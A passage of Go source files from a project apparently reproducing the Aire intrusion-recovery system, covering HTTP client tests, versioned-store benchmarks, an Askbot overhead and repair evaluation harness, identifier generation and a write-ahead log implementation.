		t.Fatal("caller's client must not be mutated")
	}
	if cl.Timeout != DefaultHTTPTimeout {
		t.Fatalf("Timeout = %v, want default %v", cl.Timeout, DefaultHTTPTimeout)
	}
	tr := cl.Transport.(*http.Transport)
	if tr.MaxIdleConnsPerHost != 7 {
		t.Fatalf("MaxIdleConnsPerHost = %d, want knob value 7", tr.MaxIdleConnsPerHost)
	}
	if tr.MaxIdleConns != DefaultMaxIdleConns {
		t.Fatalf("MaxIdleConns = %d, want default %d", tr.MaxIdleConns, DefaultMaxIdleConns)
	}
}

// A supplied Client that already carries a Timeout or Transport keeps them.
func TestHTTPClientSuppliedFieldsWin(t *testing.T) {
	own := &http.Transport{MaxIdleConnsPerHost: 3}
	c := &HTTPCaller{
		Client:  &http.Client{Timeout: 250 * time.Millisecond, Transport: own},
		Timeout: 9 * time.Second, // ignored: the client has its own
	}
	cl := c.httpClient()
	if cl.Timeout != 250*time.Millisecond {
		t.Fatalf("Timeout = %v, want the client's own 250ms", cl.Timeout)
	}
	if cl.Transport != own {
		t.Fatal("caller's Transport must be kept verbatim")
	}
}

// The Timeout knob applies when no client is supplied.
func TestHTTPClientTimeoutKnob(t *testing.T) {
	c := &HTTPCaller{Timeout: 1 * time.Second}
	if got := c.httpClient().Timeout; got != 1*time.Second {
		t.Fatalf("Timeout = %v, want 1s", got)
	}
}
