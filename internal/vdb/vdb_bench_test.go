package vdb

import (
	"fmt"
	"testing"
)

func benchStore(nKeys, versionsPerKey int) *Store {
	s := NewStore()
	ts := int64(0)
	for v := 0; v < versionsPerKey; v++ {
		for k := 0; k < nKeys; k++ {
			ts += 10
			s.Put(Key{"kv", fmt.Sprintf("k%04d", k)}, fields(fmt.Sprintf("v%d", v)), ts, fmt.Sprintf("r%d", ts))
		}
	}
	return s
}

func BenchmarkPut(b *testing.B) {
	s := NewStore()
	f := fields("value")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s.Put(Key{"kv", "x"}, f, int64(i+1)*10, fmt.Sprintf("r%d", i))
	}
}

func BenchmarkGetAt(b *testing.B) {
	s := benchStore(100, 50)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.GetAt(Key{"kv", "k0050"}, int64(i%25000)+1)
	}
}

func BenchmarkHashAtExcluding(b *testing.B) {
	s := benchStore(100, 50)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.HashAtExcluding(Key{"kv", "k0050"}, 1<<40, "r123")
	}
}

func BenchmarkScanHashAt(b *testing.B) {
	for _, n := range []int{10, 100, 1000} {
		b.Run(fmt.Sprintf("keys=%d", n), func(b *testing.B) {
			s := benchStore(n, 3)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				s.ScanHashAt("kv", 1<<40)
			}
		})
	}
}

// BenchmarkScanHashAtExcluding compares the indexed single-lock fingerprint
// against the retained pre-index reference (full map walk + sort + one lock
// round-trip per member). The scan-dependency path runs on every List query
// and on every scan re-check during repair.
func BenchmarkScanHashAtExcluding(b *testing.B) {
	for _, n := range []int{100, 1000} {
		s := benchStore(n, 3)
		b.Run(fmt.Sprintf("indexed/keys=%d", n), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				s.ScanHashAtExcluding("kv", 1<<40, "r123")
			}
		})
		b.Run(fmt.Sprintf("linear/keys=%d", n), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				s.ScanHashAtExcludingLinear("kv", 1<<40, "r123")
			}
		})
	}
}

// BenchmarkVersionHash measures the uncached fingerprint path: tombstones
// must not allocate at all, and small live versions sort their field keys
// in a stack buffer instead of a fresh slice.
func BenchmarkVersionHash(b *testing.B) {
	b.Run("tombstone", func(b *testing.B) {
		v := Version{Deleted: true}
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if v.Hash() != MissingHash {
				b.Fatal("tombstone must hash to MissingHash")
			}
		}
	})
	b.Run("live", func(b *testing.B) {
		v := Version{Fields: map[string]string{"title": "benchmark", "body": "some typical body text", "author": "u1"}}
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			v.hash = 0
			if v.Hash() == MissingHash {
				b.Fatal("live version must not hash to MissingHash")
			}
		}
	})
}

func BenchmarkRollbackRedo(b *testing.B) {
	s := benchStore(1, 100)
	k := Key{"kv", "k0000"}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		// Roll back half the history, then restore it.
		b.StopTimer()
		saved := s.Versions(k)
		b.StartTimer()
		s.Rollback(k, saved[len(saved)/2].TS)
		b.StopTimer()
		for _, v := range saved[len(saved)/2+1:] {
			s.Put(k, v.Fields, v.TS, v.ReqID)
		}
		b.StartTimer()
	}
}
