package harness

import (
	"fmt"
	"time"

	"aire/internal/apps/askbot"
	"aire/internal/apps/dpaste"
	"aire/internal/apps/oauthsvc"
	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/wire"
)

// AskbotCaller abstracts "an Askbot deployment you can send requests to" —
// either Aire-enabled (Controller) or the bare baseline.
type AskbotCaller interface {
	HandleWire(from string, req wire.Request) wire.Response
}

// AskbotBench is a single-service Askbot deployment prepared for the
// Table 4 overhead workloads (read-heavy question listing and write-heavy
// question creation), with a stub OAuth/Dpaste peer so handler code paths
// match the full scenario.
type AskbotBench struct {
	Handler AskbotCaller
	// Ctrl is non-nil for the Aire-enabled variant.
	Ctrl *core.Controller
	// Session is a pre-registered user session for posting.
	Session string
	seq     int
}

// NewAskbotBench builds the deployment. withAire selects the Aire-enabled
// runtime or the bare baseline.
func NewAskbotBench(withAire bool) (*AskbotBench, error) {
	bus := transport.NewBus()
	cfg := core.DefaultConfig()

	oauthApp := oauthsvc.New(OAuthAdminToken)
	pasteApp := dpaste.New()
	botApp := askbot.New("oauth", "dpaste", AskbotAdminToken)

	b := &AskbotBench{}
	if withAire {
		for _, app := range []core.App{oauthApp, pasteApp} {
			bus.Register(app.Name(), core.NewController(app, bus, cfg))
		}
		b.Ctrl = core.NewController(botApp, bus, cfg)
		bus.Register("askbot", b.Ctrl)
		b.Handler = b.Ctrl
	} else {
		for _, app := range []core.App{oauthApp, pasteApp} {
			bus.Register(app.Name(), NewBareRunner(app, bus))
		}
		runner := NewBareRunner(botApp, bus)
		bus.Register("askbot", runner)
		b.Handler = runner
	}

	// One user, registered through the real OAuth flow.
	if resp := b.callSvc(bus, "oauth", wire.NewRequest("POST", "/signup").
		WithForm("user", "bench", "password", "pw", "email", "bench@example.org")); !resp.OK() {
		return nil, fmt.Errorf("seed signup: %s", resp.Body)
	}
	auth := b.callSvc(bus, "oauth", wire.NewRequest("POST", "/authorize").
		WithForm("user", "bench", "password", "pw", "client", "askbot"))
	if !auth.OK() {
		return nil, fmt.Errorf("seed authorize: %s", auth.Body)
	}
	reg := b.Handler.HandleWire("", wire.NewRequest("POST", "/register").
		WithForm("name", "bench", "email", "bench@example.org", "oauth_token", string(auth.Body)))
	if !reg.OK() {
		return nil, fmt.Errorf("seed register: %s", reg.Body)
	}
	b.Session = string(reg.Body)
	return b, nil
}

func (b *AskbotBench) callSvc(bus *transport.Bus, svc string, req wire.Request) wire.Response {
	resp, err := bus.Call("", svc, req)
	if err != nil {
		return wire.NewResponse(wire.StatusTimeout, err.Error())
	}
	return resp
}

// Write posts one question (the write-heavy workload's unit of work).
func (b *AskbotBench) Write() error {
	b.seq++
	resp := b.Handler.HandleWire("", wire.NewRequest("POST", "/ask").WithForm(
		"session", b.Session,
		"title", fmt.Sprintf("bench question %d", b.seq),
		"body", "lorem ipsum dolor sit amet, consectetur adipiscing elit",
	))
	if !resp.OK() {
		return fmt.Errorf("write: %d %s", resp.Status, resp.Body)
	}
	return nil
}

// Read lists all questions (the read-heavy workload's unit of work).
func (b *AskbotBench) Read() error {
	resp := b.Handler.HandleWire("", wire.NewRequest("GET", "/questions"))
	if !resp.OK() {
		return fmt.Errorf("read: %d %s", resp.Status, resp.Body)
	}
	return nil
}

// OverheadRow is one row of Table 4.
type OverheadRow struct {
	Workload       string
	BaseThroughput float64 // req/s without Aire
	AireThroughput float64 // req/s with Aire
	OverheadPct    float64
	LogKBPerReq    float64 // compressed repair log per request
	DBKBPerReq     float64 // database version storage per request
}

// MeasureOverhead reproduces Table 4: it runs `n` requests of the workload
// ("read" or "write") against both deployments and reports throughput and
// per-request storage. Pre-populates `seed` questions so reads scan real
// data.
func MeasureOverhead(workload string, n, seed int) (OverheadRow, error) {
	row := OverheadRow{Workload: workload}
	for _, withAire := range []bool{false, true} {
		b, err := NewAskbotBench(withAire)
		if err != nil {
			return row, err
		}
		for i := 0; i < seed; i++ {
			if err := b.Write(); err != nil {
				return row, err
			}
		}
		var op func() error
		if workload == "read" {
			op = b.Read
		} else {
			op = b.Write
		}
		logBefore, dbBefore, reqBefore := int64(0), int64(0), int64(0)
		if withAire {
			logBefore = b.Ctrl.Svc.Log.AppBytes()
			dbBefore = b.Ctrl.Svc.Store.VersionBytes()
			reqBefore = b.Ctrl.Svc.Log.Samples()
		}
		start := time.Now()
		for i := 0; i < n; i++ {
			if err := op(); err != nil {
				return row, err
			}
		}
		elapsed := time.Since(start).Seconds()
		tput := float64(n) / elapsed
		if withAire {
			row.AireThroughput = tput
			reqs := b.Ctrl.Svc.Log.Samples() - reqBefore
			if reqs > 0 {
				row.LogKBPerReq = float64(b.Ctrl.Svc.Log.AppBytes()-logBefore) / float64(reqs) / 1024
				row.DBKBPerReq = float64(b.Ctrl.Svc.Store.VersionBytes()-dbBefore) / float64(reqs) / 1024
			}
		} else {
			row.BaseThroughput = tput
		}
	}
	if row.BaseThroughput > 0 {
		row.OverheadPct = 100 * (1 - row.AireThroughput/row.BaseThroughput)
	}
	return row, nil
}

// RepairPerf is one service's row of Table 5.
type RepairPerf struct {
	Service          string
	RepairedRequests int
	TotalRequests    int
	RepairedModelOps int
	TotalModelOps    int
	MsgsSent         int64
	RepairTime       time.Duration
}

// Table5Result aggregates the Table 5 experiment.
type Table5Result struct {
	Rows           []RepairPerf
	NormalExecTime time.Duration
}

// MeasureRepair reproduces Table 5: the Askbot attack with `users`
// legitimate users each posting `posts` questions, then repair, reporting
// per-service repaired/total counts, messages sent, and times.
func MeasureRepair(users, posts int, cfg core.Config) (*Table5Result, error) {
	s, err := NewAskbotScenario(users, cfg)
	if err != nil {
		return nil, err
	}
	start := time.Now()
	// Users exist before the vulnerability is introduced, as in the paper;
	// their signups are independent of the attack.
	if err := s.PreRegister(users); err != nil {
		return nil, err
	}
	if err := s.RunAttack(); err != nil {
		return nil, err
	}
	if err := s.RunLegitTraffic(users, posts); err != nil {
		return nil, err
	}
	normal := time.Since(start)

	// Repair, capturing per-service repair results. The initial delete on
	// OAuth is explicit; downstream repairs happen inside Settle, so we
	// read per-service counters afterwards.
	if err := s.Repair(); err != nil {
		return nil, err
	}
	if problems := s.Verify(); len(problems) > 0 {
		return nil, fmt.Errorf("repair incomplete: %v", problems)
	}

	res := &Table5Result{NormalExecTime: normal}
	for _, name := range []string{"askbot", "oauth", "dpaste"} {
		ctrl := s.TB.Ctrls[name]
		st := ctrl.Stats()
		perf := RepairPerf{
			Service:    name,
			MsgsSent:   st.MsgsDelivered,
			RepairTime: ctrl.RepairDuration(),
		}
		perf.RepairedRequests, perf.TotalRequests, perf.RepairedModelOps, perf.TotalModelOps = ctrl.RepairCounts()
		res.Rows = append(res.Rows, perf)
	}
	return res, nil
}
