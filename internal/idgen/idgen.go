// Package idgen produces the identifiers Aire assigns to requests,
// responses, repair messages, and application objects.
//
// Determinism matters: local repair re-executes past requests (§3.2), and
// re-execution is only *stable* (§3.3) if it is deterministic. Identifiers
// created while handling a request are therefore derived from the request's
// own ID plus a per-request counter, so a replayed handler mints exactly the
// same IDs it minted originally.
package idgen

import (
	"fmt"
	"sync/atomic"
)

// Gen hands out service-scoped sequential identifiers. The zero value is not
// usable; create one with New. Gen is safe for concurrent use.
type Gen struct {
	prefix string
	next   atomic.Int64
}

// New returns a generator whose IDs carry the given prefix, conventionally
// the service name, so IDs are unique per service as §3.1 requires ("to
// ensure these identifiers uniquely name a request on a particular server,
// Aire assigns the identifier on the service handling the request").
func New(prefix string) *Gen {
	return &Gen{prefix: prefix}
}

// Request returns the next request identifier, e.g. "askbot-req-12".
func (g *Gen) Request() string {
	return fmt.Sprintf("%s-req-%d", g.prefix, g.next.Add(1))
}

// Response returns the next response identifier, e.g. "askbot-resp-13".
func (g *Gen) Response() string {
	return fmt.Sprintf("%s-resp-%d", g.prefix, g.next.Add(1))
}

// Token returns the next response-repair token (§3.1's two-step
// replace_response handshake).
func (g *Gen) Token() string {
	return fmt.Sprintf("%s-tok-%d", g.prefix, g.next.Add(1))
}

// Delivery returns the next repair-delivery identifier, e.g.
// "askbot-dlv-14". The trailing counter is the sender's monotonic delivery
// sequence; the peer-side dedup inbox (internal/deliver) relies on it to
// cover evicted entries with a watermark, and on the persisted counter to
// keep IDs unique across crash-restart.
func (g *Gen) Delivery() string {
	return fmt.Sprintf("%s-dlv-%d", g.prefix, g.next.Add(1))
}

// Wave returns the next repair-wave identifier, e.g. "askbot-wave-15".
// A wave names one repair cascade for observability (internal/obs): the
// originating controller mints it when a repair starts with no incoming
// trace context, and every carrier the cascade emits inherits it. Waves
// draw from the same persisted counter as every other identifier, and are
// minted unconditionally (not gated on whether observability is enabled)
// so instrumented and uninstrumented runs consume identical ID sequences.
func (g *Gen) Wave() string {
	return fmt.Sprintf("%s-wave-%d", g.prefix, g.next.Add(1))
}

// Counter returns the current value of the underlying counter; used by
// snapshot/restore in tests.
func (g *Gen) Counter() int64 { return g.next.Load() }

// SetCounter forces the underlying counter; used when reloading a persisted
// log so fresh IDs do not collide with logged ones.
func (g *Gen) SetCounter(v int64) { g.next.Store(v) }

// Derived mints a deterministic identifier scoped to a request: object IDs
// created while handling request reqID use Derived(reqID, n) with a
// per-request counter n. Replaying the request reproduces the same IDs.
func Derived(reqID string, n int) string {
	return fmt.Sprintf("%s.%d", reqID, n)
}
