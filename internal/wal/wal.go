// Package wal implements the append-only write-ahead log that gives Aire's
// prototype a real durability story (ROADMAP item 1).
//
// Layout: a WAL directory holds segment files named wal-%016d.seg, where the
// number is the sequence of the first entry the segment may contain. Each
// segment starts with an 8-byte header (4-byte magic + 4-byte version) and is
// followed by length-prefixed records:
//
//	[4B big-endian payload length][4B big-endian CRC32 (IEEE) of payload][payload]
//
// The payload is the JSON encoding of an Entry — one entry per atomic commit,
// carrying the full change set of that commit (vdb puts/rollbacks/GC,
// repair-log appends/updates, queue and inbox transitions) plus the logical
// clock and ID-generator positions observed at commit time.
//
// Durability policy is configurable (FsyncEveryCommit / FsyncInterval /
// FsyncNone) so that fsync lag is an injectable simulator fault rather than a
// feared one: the writer tracks the durable offset (everything at or below it
// has been fsynced) and CrashLose simulates power loss by truncating the
// active segment back to that offset. A process crash without power loss
// keeps buffered-but-unsynced records, which the simulator models by simply
// not calling CrashLose.
//
// Replay tolerates a torn final record (partial write at the tail of the last
// segment) but treats any other framing or CRC violation as loud corruption:
// a committed record is never silently dropped.
package wal

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

const (
	segMagic   uint32 = 0xA17E10C5 // "aire log"
	segVersion uint32 = 1
	headerSize        = 8
	frameSize         = 8 // length + crc
	// DefaultSegmentBytes is the rotation threshold for segment files.
	DefaultSegmentBytes = 4 << 20
)

// ErrCorrupt wraps all non-torn corruption detected during replay.
var ErrCorrupt = errors.New("wal: corrupt log")

// FsyncPolicy selects when appended records become durable.
type FsyncPolicy int

const (
	// FsyncEveryCommit fsyncs after every Append: no committed record is
	// ever lost to power failure.
	FsyncEveryCommit FsyncPolicy = iota
	// FsyncInterval fsyncs every Interval-th Append (and on rotation/close).
	// A power failure can lose up to Interval-1 trailing commits.
	FsyncInterval
	// FsyncNone never fsyncs explicitly; power failure can lose everything
	// in the active segment. Process crashes without power loss lose nothing.
	FsyncNone
)

// String names the policy the way command-line flags spell it.
func (p FsyncPolicy) String() string {
	switch p {
	case FsyncEveryCommit:
		return "every"
	case FsyncInterval:
		return "interval"
	case FsyncNone:
		return "none"
	}
	return fmt.Sprintf("FsyncPolicy(%d)", int(p))
}

// ParsePolicy parses a flag-style policy name.
func ParsePolicy(s string) (FsyncPolicy, error) {
	switch s {
	case "every", "every-commit", "always":
		return FsyncEveryCommit, nil
	case "interval":
		return FsyncInterval, nil
	case "none", "never":
		return FsyncNone, nil
	}
	return 0, fmt.Errorf("wal: unknown fsync policy %q (want every|interval|none)", s)
}

// Op is one operation inside a commit's change set. Kind selects the
// decoder ("vdb-put", "log-append", "q-set", "in-commit", ...); Data is the
// kind-specific JSON payload.
type Op struct {
	Kind string          `json:"kind"`
	Data json.RawMessage `json:"data,omitempty"`
}

// Entry is one committed change set.
type Entry struct {
	// Seq is the entry's position in the log, starting at 1.
	Seq uint64 `json:"seq"`
	// Kind labels the commit that produced the entry ("exec", "repair",
	// "queue", "inbox", "gc", ...); informational.
	Kind string `json:"kind"`
	// Clock is the service logical-clock position observed at append time.
	Clock int64 `json:"clock,omitempty"`
	// IDs is the idgen counter observed at append time.
	IDs int64 `json:"ids,omitempty"`
	// Ops is the ordered change set.
	Ops []Op `json:"ops,omitempty"`
}

// Options configures a Writer.
type Options struct {
	// Policy selects the fsync policy; default FsyncEveryCommit.
	Policy FsyncPolicy
	// Interval is the commit count between fsyncs under FsyncInterval;
	// default 8.
	Interval int
	// SegmentBytes is the rotation threshold; default DefaultSegmentBytes.
	SegmentBytes int64
	// OnAppend / OnSync, when non-nil, observe the latency of each entry
	// append (marshal + frame + write, under the writer lock) and each
	// fsync that actually reached the disk. They are the wal package's
	// whole observability surface — wal stays free of the obs dependency;
	// internal/persist wires these to the owning controller's registry.
	// Hooks must be fast and must not call back into the writer.
	OnAppend func(d time.Duration)
	OnSync   func(d time.Duration)
}

func (o Options) withDefaults() Options {
	if o.Interval <= 0 {
		o.Interval = 8
	}
	if o.SegmentBytes <= 0 {
		o.SegmentBytes = DefaultSegmentBytes
	}
	return o
}

// Writer appends entries to the log directory. Safe for concurrent use.
//
// Fsyncs are group commits: the frame write happens under mu, but the
// flush itself runs under syncMu only, so concurrent Appends never queue
// behind each other's disk latency — whichever appender reaches the disk
// first makes every already-written entry durable, and the rest return
// without issuing their own fsync.
type Writer struct {
	mu   sync.Mutex
	dir  string
	opts Options

	f       *os.File // active segment
	off     int64    // logical end offset of active segment
	durable int64    // offset of active segment known to be on disk
	seq     uint64   // last appended entry seq
	pending int      // appends since last fsync (FsyncInterval)
	closed  bool

	// durSeq is the last entry seq known durable; epoch counts segment
	// rotations so a sync completion can tell whether its captured offsets
	// still describe the active segment. Both guarded by mu.
	durSeq uint64
	epoch  uint64

	// syncMu serializes fsyncs; it is never held together with mu, so an
	// in-flight flush blocks neither appends nor crash simulation.
	syncMu sync.Mutex
}

// syncDir flushes dir's entry table so renames, creations, and removals
// inside it survive power loss.
func syncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	err = d.Sync()
	if cerr := d.Close(); err == nil {
		err = cerr
	}
	return err
}

// SyncDir fsyncs a directory, making file creations, renames, and removals
// inside it durable. Checkpointing uses it to pin the checkpoint's
// directory entry before the covered WAL segments are deleted.
func SyncDir(dir string) error { return syncDir(dir) }

func segName(firstSeq uint64) string {
	return fmt.Sprintf("wal-%016d.seg", firstSeq)
}

func segFirstSeq(name string) (uint64, bool) {
	if !strings.HasPrefix(name, "wal-") || !strings.HasSuffix(name, ".seg") {
		return 0, false
	}
	n, err := strconv.ParseUint(strings.TrimSuffix(strings.TrimPrefix(name, "wal-"), ".seg"), 10, 64)
	if err != nil {
		return 0, false
	}
	return n, true
}

// Segments lists the segment files in dir in ascending first-seq order.
func Segments(dir string) ([]string, error) {
	ents, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var names []string
	for _, e := range ents {
		if _, ok := segFirstSeq(e.Name()); ok && !e.IsDir() {
			names = append(names, e.Name())
		}
	}
	sort.Strings(names)
	return names, nil
}

// Open opens (creating if necessary) the log in dir, scans existing
// segments, truncates a torn tail off the final segment, and positions the
// writer after the last intact entry. Mid-log corruption is returned as an
// error wrapping ErrCorrupt.
func Open(dir string, opts Options) (*Writer, error) {
	opts = opts.withDefaults()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	w := &Writer{dir: dir, opts: opts}

	names, err := Segments(dir)
	if err != nil {
		return nil, err
	}
	if len(names) == 0 {
		if err := w.rotateLocked(1); err != nil {
			return nil, err
		}
		return w, nil
	}

	// Validate every segment; only the last may have a torn tail. Earlier
	// segments may have been truncated away by checkpoints, so seq
	// continuity starts at the first segment's named first-seq.
	first, _ := segFirstSeq(names[0])
	lastSeq := first - 1
	for i, name := range names {
		final := i == len(names)-1
		path := filepath.Join(dir, name)
		end, last, torn, err := scanSegment(path, lastSeq)
		if err != nil {
			return nil, err
		}
		if torn && !final {
			return nil, fmt.Errorf("%w: segment %s torn but not final", ErrCorrupt, name)
		}
		if last > 0 {
			lastSeq = last
		}
		if final {
			if torn {
				if err := os.Truncate(path, end); err != nil {
					return nil, err
				}
			}
			if end < headerSize {
				// Torn before the header was durable: rebuild the segment.
				if err := os.Remove(path); err != nil {
					return nil, err
				}
				w.seq = lastSeq
				if err := w.rotateLocked(lastSeq + 1); err != nil {
					return nil, err
				}
				return w, nil
			}
			f, err := os.OpenFile(path, os.O_RDWR, 0o644)
			if err != nil {
				return nil, err
			}
			if _, err := f.Seek(end, io.SeekStart); err != nil {
				f.Close()
				return nil, err
			}
			w.f = f
			w.off = end
			w.durable = end // survived restart ⇒ treat as durable baseline
			w.seq = lastSeq
			w.durSeq = lastSeq
		}
	}
	return w, nil
}

// scanSegment walks one segment, verifying framing, CRCs, and that entry
// seqs ascend from prevSeq. It returns the offset just past the last intact
// entry, the last intact seq (0 if none), and whether a torn tail was cut.
func scanSegment(path string, prevSeq uint64) (end int64, lastSeq uint64, torn bool, err error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return 0, 0, false, err
	}
	name := filepath.Base(path)
	if len(data) < headerSize {
		// A header-less segment can only arise from a torn create; treat as
		// torn-at-zero so Open rebuilds it.
		return 0, 0, true, nil
	}
	if binary.BigEndian.Uint32(data[0:4]) != segMagic {
		return 0, 0, false, fmt.Errorf("%w: segment %s: bad magic", ErrCorrupt, name)
	}
	if v := binary.BigEndian.Uint32(data[4:8]); v != segVersion {
		return 0, 0, false, fmt.Errorf("%w: segment %s: unsupported version %d", ErrCorrupt, name, v)
	}
	off := int64(headerSize)
	last := prevSeq
	for {
		if off == int64(len(data)) {
			return off, last, false, nil
		}
		if off+frameSize > int64(len(data)) {
			return off, last, true, nil // torn frame header
		}
		ln := binary.BigEndian.Uint32(data[off : off+4])
		crc := binary.BigEndian.Uint32(data[off+4 : off+8])
		if ln == 0 || ln > 64<<20 {
			return 0, 0, false, fmt.Errorf("%w: segment %s: absurd record length %d at offset %d", ErrCorrupt, name, ln, off)
		}
		if off+frameSize+int64(ln) > int64(len(data)) {
			return off, last, true, nil // torn payload
		}
		payload := data[off+frameSize : off+frameSize+int64(ln)]
		if crc32.ChecksumIEEE(payload) != crc {
			return 0, 0, false, fmt.Errorf("%w: segment %s: CRC mismatch at offset %d", ErrCorrupt, name, off)
		}
		var e Entry
		if err := json.Unmarshal(payload, &e); err != nil {
			return 0, 0, false, fmt.Errorf("%w: segment %s: undecodable entry at offset %d: %v", ErrCorrupt, name, off, err)
		}
		if e.Seq != last+1 {
			return 0, 0, false, fmt.Errorf("%w: segment %s: seq %d follows %d", ErrCorrupt, name, e.Seq, last)
		}
		last = e.Seq
		off += frameSize + int64(ln)
	}
}

// rotateLocked opens a fresh segment whose name claims firstSeq.
func (w *Writer) rotateLocked(firstSeq uint64) error {
	if w.f != nil {
		// Finished segments are always synced so that only the active
		// segment's tail is ever volatile.
		if err := w.f.Sync(); err != nil {
			w.f.Close()
			return err
		}
		if err := w.f.Close(); err != nil {
			return err
		}
		w.f = nil
	}
	path := filepath.Join(w.dir, segName(firstSeq))
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return err
	}
	var hdr [headerSize]byte
	binary.BigEndian.PutUint32(hdr[0:4], segMagic)
	binary.BigEndian.PutUint32(hdr[4:8], segVersion)
	if _, err := f.Write(hdr[:]); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	// Pin the new segment's directory entry: without this a power loss can
	// drop the file itself even though its contents were synced, leaving a
	// sequence gap that replay reports as corruption.
	if err := syncDir(w.dir); err != nil {
		f.Close()
		return err
	}
	w.f = f
	w.off = headerSize
	w.durable = headerSize
	w.pending = 0
	// Everything before the fresh segment was synced above (or at Open),
	// so every already-assigned seq is durable.
	w.durSeq = w.seq
	w.epoch++
	return nil
}

// Append writes one entry and applies the fsync policy, returning the
// entry's assigned sequence number. The flush (when the policy demands one)
// happens outside w.mu as a group commit — see SyncTo.
func (w *Writer) Append(kind string, clock, ids int64, ops []Op) (uint64, error) {
	seq, syncNeeded, err := w.AppendDeferred(kind, clock, ids, ops)
	if err != nil {
		return 0, err
	}
	if syncNeeded {
		if err := w.SyncTo(seq); err != nil {
			return 0, err
		}
	}
	return seq, nil
}

// AppendDeferred writes one entry without flushing it, reporting whether
// the fsync policy owes a flush. Callers on a hot lock-held path use it to
// commit under their own lock and run the owed SyncTo after releasing it,
// so the disk flush serializes nothing but the disk.
func (w *Writer) AppendDeferred(kind string, clock, ids int64, ops []Op) (seq uint64, syncNeeded bool, err error) {
	var appendStart time.Time
	if w.opts.OnAppend != nil {
		appendStart = time.Now()
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.closed {
		return 0, false, errors.New("wal: writer closed")
	}
	if w.off >= w.opts.SegmentBytes {
		if err := w.rotateLocked(w.seq + 1); err != nil {
			return 0, false, err
		}
	}
	e := Entry{Seq: w.seq + 1, Kind: kind, Clock: clock, IDs: ids, Ops: ops}
	payload, err := json.Marshal(e)
	if err != nil {
		return 0, false, err
	}
	buf := make([]byte, frameSize+len(payload))
	binary.BigEndian.PutUint32(buf[0:4], uint32(len(payload)))
	binary.BigEndian.PutUint32(buf[4:8], crc32.ChecksumIEEE(payload))
	copy(buf[frameSize:], payload)
	if _, err := w.f.Write(buf); err != nil {
		return 0, false, err
	}
	w.off += int64(len(buf))
	w.seq = e.Seq

	switch w.opts.Policy {
	case FsyncEveryCommit:
		syncNeeded = true
	case FsyncInterval:
		w.pending++
		if w.pending >= w.opts.Interval {
			w.pending = 0
			syncNeeded = true
		}
	case FsyncNone:
		// never owed
	}
	if w.opts.OnAppend != nil {
		w.opts.OnAppend(time.Since(appendStart))
	}
	return e.Seq, syncNeeded, nil
}

// SyncTo blocks until every entry up to and including seq is durable. It is
// the group-commit rendezvous: concurrent callers pile up on syncMu, the
// first fsync covers everything written before it started, and the rest
// observe durSeq and return without touching the disk.
func (w *Writer) SyncTo(seq uint64) error {
	w.syncMu.Lock()
	defer w.syncMu.Unlock()
	w.mu.Lock()
	if w.durSeq >= seq || w.f == nil {
		w.mu.Unlock()
		return nil
	}
	f, off, cur, epoch := w.f, w.off, w.seq, w.epoch
	w.mu.Unlock()
	var syncStart time.Time
	if w.opts.OnSync != nil {
		syncStart = time.Now()
	}
	if err := f.Sync(); err != nil {
		return err
	}
	if w.opts.OnSync != nil {
		w.opts.OnSync(time.Since(syncStart))
	}
	w.mu.Lock()
	if w.epoch == epoch {
		// The captured offsets still describe the active segment; a
		// rotation in the window would have marked everything durable
		// itself (finished segments are synced on rotation).
		if off > w.durable {
			w.durable = off
		}
		if cur > w.durSeq {
			w.durSeq = cur
		}
		w.pending = 0
	}
	w.mu.Unlock()
	return nil
}

// Sync forces everything appended so far onto disk.
func (w *Writer) Sync() error {
	_, err := w.SyncedSeq()
	return err
}

// SyncedSeq forces everything appended so far onto disk and returns the
// sequence it covered: on return every entry at or below it is durable.
// Checkpointing uses this (rather than Sync then Seq) so the covered
// sequence can never include an entry appended — but not yet flushed —
// between the two calls.
func (w *Writer) SyncedSeq() (uint64, error) {
	w.mu.Lock()
	seq := w.seq
	w.mu.Unlock()
	if err := w.SyncTo(seq); err != nil {
		return 0, err
	}
	return seq, nil
}

// Seq returns the sequence of the last appended entry (0 if none).
func (w *Writer) Seq() uint64 {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.seq
}

// CrashLose simulates power loss: every byte of the active segment past the
// last fsync is discarded, and the writer becomes unusable. Finished
// segments are unaffected (they are synced at rotation). Returns the number
// of bytes dropped.
func (w *Writer) CrashLose() (int64, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.f == nil {
		w.closed = true
		return 0, nil
	}
	lost := w.off - w.durable
	name := w.f.Name()
	w.f.Close()
	w.f = nil
	w.closed = true
	if lost > 0 {
		if err := os.Truncate(name, w.durable); err != nil {
			return 0, err
		}
	}
	return lost, nil
}

// Close syncs and closes the active segment. A process exiting cleanly
// (or crashing without power loss) keeps everything appended.
func (w *Writer) Close() error {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.closed {
		return nil
	}
	w.closed = true
	if w.f == nil {
		return nil
	}
	err := w.f.Sync()
	if cerr := w.f.Close(); err == nil {
		err = cerr
	}
	w.f = nil
	return err
}

// Replay streams every intact entry with Seq > fromSeq to fn, in order. It
// returns the last sequence seen (across the whole log, even entries at or
// below fromSeq) and whether a torn tail was skipped on the final segment.
// Any other corruption — CRC mismatch, bad framing, a torn non-final
// segment, a sequence gap — is returned as an error wrapping ErrCorrupt so
// that a committed record is never silently dropped.
